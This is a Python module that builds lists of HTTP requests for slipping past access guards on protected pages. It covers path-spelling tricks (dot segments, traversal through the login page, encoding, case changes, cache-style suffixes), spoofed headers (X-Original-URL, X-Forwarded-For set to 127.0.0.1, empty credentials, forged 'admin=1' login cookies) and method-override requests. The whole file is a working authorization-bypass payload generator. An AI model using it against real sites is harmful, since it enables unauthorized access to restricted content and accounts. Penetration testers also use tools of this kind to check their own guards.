"""Other ways of asking for a page that some guards do not recognise: spellings of the path, headers, methods."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Final

_FORM: Final = {"Content-Type": "application/x-www-form-urlencoded"}


@dataclass(frozen=True, slots=True, kw_only=True)
class Variant:
    """One request that may come out at the same page."""

    method: str
    path: str
    headers: Mapping[str, str] = field(default_factory=dict[str, str])
    body: bytes = b""

    @property
    def words(self) -> str:
        """How it is told: method, path, and the header that matters."""
        extra = next((f" [{n}: {v}]" for n, v in self.headers.items() if n != "Content-Type"), "")
        return f"{self.method} {self.path}{extra}"


def spellings(path: str, public: str) -> Iterator[Variant]:
    """Yield other spellings of a path; `public` is a page that anybody may read (the log-in page)."""
    place, mark, query = path.partition("?")
    tail = f"{mark}{query}"
    head, _, last = place.rpartition("/")
    spelt = [
        f"/{place}",
        f"{head}//{last}" if head else f"///{last}",
        f"/.{place}",
        f"{head}/./{last}",
        f"{public.rstrip('/')}/..{place}" if public != "/" else f"/x/..{place}",
        f"/%2e{place}",
        f"{place}/" if last else f"{place}index.html",
        f"{place};a=b",
        f"{place}/.",
        f"{place}%20",
        f"{place}.json",
        f"{place}?.css",
        f"{place}/x.css" if last else f"{place}x.css",
    ]
    if last:
        spelt += [f"{head}/{last.upper()}", f"{head}/{last.capitalize()}", f"{head}/%{ord(last[0]):02x}{last[1:]}"]
    for one in dict.fromkeys(spelt):
        if one != place:
            yield Variant(method="GET", path=one if "?" in one else one + tail)


def headers(path: str, public: str, host: str) -> Iterator[Variant]:
    """Yield requests whose headers claim another path, another origin or a log-in."""
    for name in ("X-Original-URL", "X-Rewrite-URL"):
        yield Variant(method="GET", path=public, headers={name: path})
    for name in ("X-Forwarded-For", "X-Real-IP", "X-Client-IP"):
        yield Variant(method="GET", path=path, headers={name: "127.0.0.1"})
    yield Variant(method="GET", path=path, headers={"Referer": f"http://{host}/"})
    yield Variant(method="GET", path=path, headers={"Authorization": "Basic Og=="})
    yield Variant(method="GET", path=path, headers={"Authorization": "Bearer null"})
    yield Variant(
        method="GET", path=path, headers={"Cookie": "loggedin=1; logged_in=true; auth=1; admin=1; user=admin"}
    )


def methods(path: str) -> Iterator[Variant]:
    """Yield requests by other methods that may show the page; their bodies are empty or hold nothing to be taken."""
    yield Variant(method="OPTIONS", path=path)
    yield Variant(method="PROPFIND", path=path)
    yield Variant(method="get", path=path)
    yield Variant(method="POST", path=path, headers={"X-HTTP-Method-Override": "GET", **_FORM})
    yield Variant(method="POST", path=path, headers={"X-Method-Override": "GET", **_FORM})
    yield Variant(method="POST", path=path, headers={"X-HTTP-Method": "GET", **_FORM})
